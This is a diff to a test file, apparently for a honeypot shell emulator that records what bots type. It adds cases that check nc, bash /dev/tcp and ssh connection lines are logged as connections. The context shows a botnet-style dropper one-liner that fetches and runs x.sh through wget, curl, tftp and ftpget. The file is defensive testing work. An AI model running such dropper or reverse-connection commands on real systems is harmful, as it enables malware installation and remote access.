@@ -26,6 +26,16 @@ describe('what bots type', () => {
     expect(ran.out).toBe(' 7f 45 4c 46 00 ff\n')
     expect(ran.files.get('/tmp/.f')).toEqual(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 255]))
   })
+  it.each([
+    ['nc -w 1 198.51.100.7 4444', 'nc tcp://198.51.100.7:4444'],
+    ['nc -u -z 198.51.100.7 53', 'nc udp://198.51.100.7:53'],
+    ['bash -c "echo > /dev/tcp/198.51.100.7/443"', 'bash tcp://198.51.100.7:443'],
+    ['ssh -p 2222 root@198.51.100.7', 'ssh ssh://root@198.51.100.7:2222'],
+  ])('records %s as a connection, not as a download', async (line, connect) => {
+    const ran = await runCommand(line)
+    expect([ran.connects, ran.downloads]).toEqual([[connect], []])
+  })
+
   it('records downloads and never makes them', async () => {
     const script =
       'cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/x.sh; curl -O http://198.51.100.7/x.sh; tftp -g -r x.sh 198.51.100.7; ftpget -v -u anonymous -p anonymous 198.51.100.7 x x; chmod 777 x.sh; sh x.sh; rm -rf x.sh'
